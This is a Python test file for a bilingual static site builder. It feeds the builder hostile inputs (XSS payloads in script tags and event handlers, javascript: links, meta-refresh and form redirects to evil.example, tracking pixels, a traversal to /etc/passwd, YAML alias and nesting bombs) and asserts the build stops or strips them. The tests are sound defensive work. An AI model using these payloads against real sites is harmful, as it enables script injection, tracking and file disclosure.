"""Hostile content never reaches a visitor (DESIGN.md "Trust"): a table of attacks, one or more
per family, each either stopping the build (file, line, no traceback, output/ byte-identical)
or built with the payload absent from every file the site publishes."""

import re
import subprocess
import sys
import time

import pytest

from bilingual.build import build_site
from bilingual.errors import BuildError
from conftest import ROOT, SETTINGS, TinySite, tree_digest

GOOD = {
    "news/first.en.md": "Title: First news\nDate: 2023-02-20\nSummary: A first item.\n\nBody.\n",
    "news/first.ar.md": "Title: الخبر الأول\nDate: 2023-02-20\nSummary: خبر أول.\n\nنص.\n",
    "pages/about.en.md": "Title: About\nSummary: Who we are.\n\nAbout us.\n",
    "pages/about.ar.md": "Title: من نحن\nSummary: من نحن.\n\nعنّا.\n",
}
CAMPAIGN = ("title: {ar: حملة, en: A campaign}\ndescription: {ar: وصف, en: About it}\nstatus: active\n"
            "start: 2023-03-01\n")


def news(body, header=""):
    """A news item whose body (from line 5 on, after a blank line) is `body`."""
    return {"news/second.en.md": f"Title: Second\nDate: 2023-02-20\nSummary: s{header}\n\n{body}\n"}


# name: (files to add, file the message names, line it names (or None), words it contains)
STOPS = {
    # scripts and handlers
    "script from a dropped file": (news('<script src="/pdfs/x.js"></script>'), "news/second.en.md", 5,
                                   "<script> would run code"),
    "inline script": (news("Text.\n\n<script>alert(1)</script>"), "news/second.en.md", 7, "inline <script> would run"),
    "handler through attr_list": (news('A paragraph.\n{: onclick="alert(1)" }'), "news/second.en.md", 6,
                                  "onclick=…> would run code"),
    "noscript trick": (news('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
                       "news/second.en.md", 5, "<noscript> can hide code"),
    "empty comment trick": (news("Text.\n\n<!--><img src=x onerror=alert(1)>-->"), "news/second.en.md", 7,
                            "something the site cannot publish"),
    "inline svg with script": (news("<svg><script>alert(1)</script></svg>"), "news/second.en.md", 5,
                               "<svg> is not allowed inside Markdown"),
    # URL schemes and navigation
    "javascript: link": (news("[click](javascript:alert(1))"), "news/second.en.md", 5, "uses 'javascript:'"),
    "encoded javascript: link": (news('<a href="&#106;avascript:alert(1)">x</a>'), "news/second.en.md", 5,
                                 "uses 'javascript:'"),
    "data: link": (news("[x](data:text/html;base64,PHNjcmlwdD4=)"), "news/second.en.md", 5, "uses 'data:'"),
    "meta refresh": (news('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
                     "news/second.en.md", 5, "<meta> would change how the whole page loads"),
    "base element": (news('<base href="https://evil.example/">'), "news/second.en.md", 5, "<base> would change"),
    # requests to another host
    "iframe": (news('<iframe src="https://www.youtube.com/embed/x"></iframe>'), "news/second.en.md", 5,
               "<iframe> would load something from another site"),
    "remote image in Markdown": (news("Text.\n\n![pixel](https://tracker.example/p.gif)"), "news/second.en.md", 7,
                                 "would be loaded from another site"),
    "protocol-relative image": (news('<img src="//tracker.example/p.gif" alt="p">'), "news/second.en.md", 5,
                                "would be loaded from another site"),
    "backslash image": (news('<img src="/\\tracker.example/p.gif" alt="p">'), "news/second.en.md", 5,
                        "would be loaded from another site"),
    "object": (news('<object data="https://evil.example/x.swf"></object>'), "news/second.en.md", 5,
               "<object> would load"),
    "video": (news('<video src="https://evil.example/v.mp4"></video>'), "news/second.en.md", 5, "<video> would load"),
    "stylesheet link": (news('<link rel="stylesheet" href="https://evil.example/x.css">'), "news/second.en.md", 5,
                        "<link> would change"),
    "style element": (news("<style>body{background:url(https://evil.example/x)}</style>"), "news/second.en.md", 5,
                      "<style> is blocked"),
    "form posting elsewhere": (news('<form action="https://evil.example/"><input name="q"></form>'),
                               "news/second.en.md", 5, "<form> would send what visitors type"),
    # {static} links publish only what the static folders hold
    "{static} link to a data file": (news("[vocabulary]({static}../data/topics.yaml)"), "news/second.en.md", 5,
                                     "the link /data/topics.yaml leads to a page or file that does not exist"),
    "{static} link out of the content folder": (news("[passwords]({static}/../../../../../../etc/passwd)"),
                                               "news/second.en.md", 5, "leads outside the content folder"),
    # HTML in the summary is checked like the body, and named on the Summary line
    "HTML in Summary": ({"news/second.en.md": "Title: Second\nDate: 2023-02-20\n"
                                              "Summary: Read <img src=x onerror=alert(1)> this\n\nBody.\n"},
                        "news/second.en.md", 3, "onerror=…> would run code"),
    "remote image in Summary": ({"news/second.en.md": "Title: Second\nDate: 2023-02-20\n"
                                                      "Summary: ![p](https://tracker.example/p.gif)\n\nBody.\n"},
                                "news/second.en.md", 3, "would be loaded from another site"),
    # campaign pages are Markdown too
    "iframe on a campaign page": ({"campaigns/fair/campaign.yaml": CAMPAIGN,
                                   "campaigns/fair/index.ar.md": "Title: حملة\n\nنص.\n",
                                   "campaigns/fair/index.en.md": "Title: Home\n\nText.\n\n"
                                                                 '<iframe src="https://evil.example/"></iframe>\n'},
                                  "campaigns/fair/index.en.md", 5, "<iframe> would load"),
    # control characters and repeated keys in metadata
    "NUL in a title": ({"news/second.en.md": "Title: Sec\x00ond\nDate: 2023-02-20\n\nB.\n"}, "news/second.en.md", 1,
                       "invisible character (U+0000"),
    "vertical tab in a date": ({"news/second.en.md": "Title: Second\nDate: 2023-02-20\x0b\n\nB.\n"},
                               "news/second.en.md", 2, "invisible character (U+000B"),
    "line separator in the body": ({"news/second.en.md": "Title: Second\nDate: 2023-02-20\n\nB.\u2028C\n"},
                                   "news/second.en.md", 4, "U+2028"),
    "two Title lines": ({"news/second.en.md": "Title: Second\nTitle: Another\nDate: 2023-02-20\n\nB.\n"},
                        "news/second.en.md", 2, "'Title:' is written twice (lines 1 and 2)"),
    # limits: nothing may hang the build or eat memory
    "list nested 300 deep": (news("".join("    " * i + "- item\n" for i in range(300))), "news/second.en.md", 29,
                             "nests lists or quotes 25 levels deep"),
    "bullets nested on one line": (news("- " * 1000 + "deep"), "news/second.en.md", 5, "nests lists or quotes"),
    "quotes nested 1,000 deep": (news(">" * 1000 + " deep"), "news/second.en.md", 5, "nests lists or quotes"),
    "HTML nested 100 deep": (news("<div>" * 100 + "x" + "</div>" * 100), "news/second.en.md", None,
                             "nested 100 deep"),
    "huge Markdown file": (news("word " * 450_000), "news/second.en.md", None, "a page may have at most 2 MB"),
    "YAML vocabulary nested 1,000 deep": ({"data/topics.yaml": "privacy:\n  ar: " + "[" * 1000 + "]" * 1000 + "\n"},
                                          "data/topics.yaml", 2, "nested more than 12 levels"),
    "YAML alias bomb": ({"data/topics.yaml": "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a]\n"
                                             "c: [*b, *b, *b, *b, *b, *b, *b]\n"},
                        "data/topics.yaml", 1, "anchors and aliases"),
    "dataset methodology leading to another host": (
        {"data/violation-codes.yaml": (ROOT / "tests/charts/codes.yaml").read_text(encoding="utf-8"),
         "data/violations/q1.yaml": (ROOT / "tests/charts/q1.yaml").read_text(encoding="utf-8").replace(
             "methodology: /about/", "methodology: //evil.example/x")},
        "data/violations/q1.yaml", 8, "is not a link"),
}


@pytest.fixture
def built(tmp_path):
    site = TinySite(tmp_path).write(GOOD)
    site.build()
    return site


@pytest.mark.parametrize("case", STOPS)
def test_hostile_input_stops_the_build_naming_file_and_line(built, case):
    files, path, line, words = STOPS[case]
    before = tree_digest(built.output)
    built.write(files)
    started = time.perf_counter()
    with pytest.raises(BuildError) as caught:
        built.build()
    message = str(caught.value)
    assert words in message, message
    assert "Traceback" not in message
    assert f"{path}:{line}:" in message if line is not None else path in message, message
    assert tree_digest(built.output) == before
    assert not list(built.root.glob(".output-build-*")), "the staging folder was not cleaned up"
    assert not any(b"root:x:0:0" in path.read_bytes() for path in built.root.rglob("*") if path.is_file())
    assert time.perf_counter() - started < 60, "a hostile input must not slow the build to a crawl"


def test_many_rows_stop_at_the_limit(built, monkeypatch):
    import charts.schema

    monkeypatch.setattr(charts.schema, "MAX_ROWS", 3)  # the real limit is 100,000; the check is the same
    before = tree_digest(built.output)
    built.write({"data/violation-codes.yaml": (ROOT / "tests/charts/codes.yaml").read_text(encoding="utf-8"),
                 "data/violations/q1.yaml": (ROOT / "tests/charts/q1.yaml").read_text(encoding="utf-8")})
    with pytest.raises(BuildError, match=r"data/violations/q1.yaml:\d+: the dataset has \d+ rows; a dataset may have at most 3"):
        built.build()
    assert tree_digest(built.output) == before


def test_invoke_build_reports_hostile_markup_without_a_traceback(built):
    built.write(news('<iframe src="https://www.youtube.com/embed/x"></iframe>'))
    result = subprocess.run([sys.executable, "-m", "invoke", "build", "--content", str(built.content),
                             "--output", str(built.output)], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 1
    assert "news/second.en.md:5: <iframe> would load something from another site" in result.stderr
    assert "how to fix: to show a partner's video or post, link to it with a picture" in result.stderr
    assert "Traceback" not in result.stderr


# Markup the site does not use: removed with a warning (the build goes on), an error with --strict.
# name: (body, the words of the warning, what must be absent from every published file)
WARNED = {
    "font element": ('<font color="red">red words</font>', "<font> is not used on this site", "<font"),
    "target on a link": ('<a href="https://7amleh.org/" target="_blank">x</a>', "'target' on <a>", "_blank"),
    "table cell width": ("<table><tr><td width=\"300\">cell</td></tr></table>", "'width' on <td>", 'width="300"'),
    "data attribute": ('<p data-track="yes">tracked</p>', "'data-track' on <p>", "data-track"),
}


def published_text(output):
    """Every file a visitor can fetch, as text (binary files skipped)."""
    for path in sorted(output.rglob("*")):
        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".txt", ".csv", ".svg", ".js", ".css", ""):
            yield path, path.read_text(encoding="utf-8", errors="replace")


@pytest.mark.parametrize("case", WARNED)
def test_unused_markup_is_removed_with_a_warning_naming_the_line(tiny, case):
    body, words, payload = WARNED[case]
    tiny.write({**GOOD, **news(f"Text.\n\n{body}")})
    report = build_site(SETTINGS, content=tiny.content, output=tiny.output)
    notes = [w.describe() for w in report.check_warnings]
    assert any(words in note and note.startswith("news/second.en.md:7:") for note in notes), notes
    for path, text in published_text(tiny.output):
        assert payload not in text, path
    with pytest.raises(BuildError, match=re.escape(words)):
        build_site(SETTINGS, content=tiny.content, output=tiny.output, strict=True)


def test_warnings_survive_the_content_cache(tiny, tmp_path):
    """The sanitiser's warnings ride on the item, so a warm build (item read from the cache) reports them too."""
    tiny.write({**GOOD, **news('Text.\n\n<font color="red">red</font>')})
    cache = {"CACHE_CONTENT": True, "LOAD_CONTENT_CACHE": True, "CACHE_PATH": str(tmp_path / "cache")}
    for _ in range(2):
        report = build_site(SETTINGS, content=tiny.content, output=tiny.output, overrides=cache)
        assert any("<font> is not used" in w.describe() for w in report.check_warnings)


def test_titles_cannot_break_out_of_json_ld(tiny):
    """A title with '<!--<script>' once swallowed the rest of the page inside the JSON-LD block."""
    tiny.write({**GOOD, "publications/report.en.md": "Title: A <!--<script> report </script>\nDate: 2023-01-01\n"
                                                     "Type: report\nSummary: s\n\nBody text.\n"})
    tiny.build()
    page = tiny.read("en/publications/report/index.html")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S).group(1)
    assert "<" not in block and ">" not in block and "&" not in block.replace("\\u0026", "")
    assert "\\u003c!--\\u003cscript\\u003e" in block
    assert page.count("<script") == page.count("</script>")  # nothing opened that the page does not close
    assert "Body text." in page


def test_a_partners_video_becomes_a_link_card_with_our_own_picture(tiny):
    from PIL import Image

    tiny.write({**GOOD, **news("[![The campaign video, a woman speaking]({static}/images/poster.png)]"
                               "(https://www.youtube.com/watch?v=abc)")})
    (tiny.content / "images").mkdir(exist_ok=True)
    Image.new("RGB", (960, 540), (11, 85, 99)).save(tiny.content / "images" / "poster.png")
    tiny.build()
    page = tiny.read("en/news/second/index.html")
    card = re.search(r'<p class="link-card"><a href="https://www.youtube.com/watch\?v=abc">(.*?)</a></p>', page, re.S)
    assert card, page
    assert '<span class="link-card__site"><bdi>youtube.com</bdi></span>' in card.group(1)
    sources = re.findall(r'(?:src|srcset)="([^"]+)"', card.group(1))
    assert sources and all(s.startswith("/images/") for s in sources), sources


# The languages of one item agree on what is not language.
CONSISTENCY = {
    "type": ("Type: report", "Type: guide", "the type differs from publications/report.ar.md"),
    "date": ("Date: 2023-01-01", "Date: 2023-01-02", "the date differs"),
    "topics": ("Topics: privacy", "Topics: privacy, surveillance", "the topics differ"),
    "authors": ("Authors: 7amleh", "", "the authors differ"),
    "pdf": ("PDF: pdfs/r.ar.pdf", "", "has a PDF and"),
}


@pytest.mark.parametrize("key", CONSISTENCY)
def test_languages_of_one_item_that_disagree_are_reported(tiny, key):
    arabic, english, words = CONSISTENCY[key]
    base = {"type": "Type: report", "date": "Date: 2023-01-01", "topics": "Topics: privacy",
            "authors": "Authors: 7amleh", "pdf": ""}
    tiny.write({"data/topics.yaml": "privacy:\n  ar: الخصوصية\n  en: Privacy\nsurveillance:\n  ar: المراقبة\n"
                                    "  en: Surveillance\n", "pdfs/r.ar.pdf": b"%PDF-1.4\n%%EOF\n"})

    def item(title, lang, override):
        lines = [f"Title: {title}", *(override if k == key else v for k, v in base.items()), "Summary: s"]
        return "\n".join(line for line in lines if line) + "\n\nBody.\n"

    tiny.write({"publications/report.ar.md": item("تقرير", "ar", arabic),
                "publications/report.en.md": item("Report", "en", english)})
    report = build_site(SETTINGS, content=tiny.content, output=tiny.output)
    notes = [w.describe() for w in report.check_warnings]
    assert any(n.startswith("publications/report.en.md:") and words.split(" differs")[0] in n
               and "publications/report.ar.md" in n for n in notes), notes
    with pytest.raises(BuildError, match="publications/report.ar.md"):
        build_site(SETTINGS, content=tiny.content, output=tiny.output, strict=True)


@pytest.mark.parametrize("draft", ["ar", "en"])
def test_a_draft_in_one_language_builds_the_other_normally(tiny, draft):
    other = "en" if draft == "ar" else "ar"
    status = {draft: "Status: draft\n", other: ""}
    tiny.write({f"news/solo.{lang}.md": f"Title: Solo {lang}\nDate: 2023-01-01\nSummary: s\nAuthors: 7amleh\n"
                                        f"Topics: privacy\n{status[lang]}\nBody.\n" for lang in ("ar", "en")})
    tiny.build()
    prefix = {"ar": "", "en": "en/"}
    assert (tiny.output / f"{prefix[other]}news/solo/index.html").exists()
    assert (tiny.output / f"{prefix[draft]}drafts/solo/index.html").exists()
    listing = tiny.read(f"{prefix[other]}news/index.html")
    assert "Solo" in listing
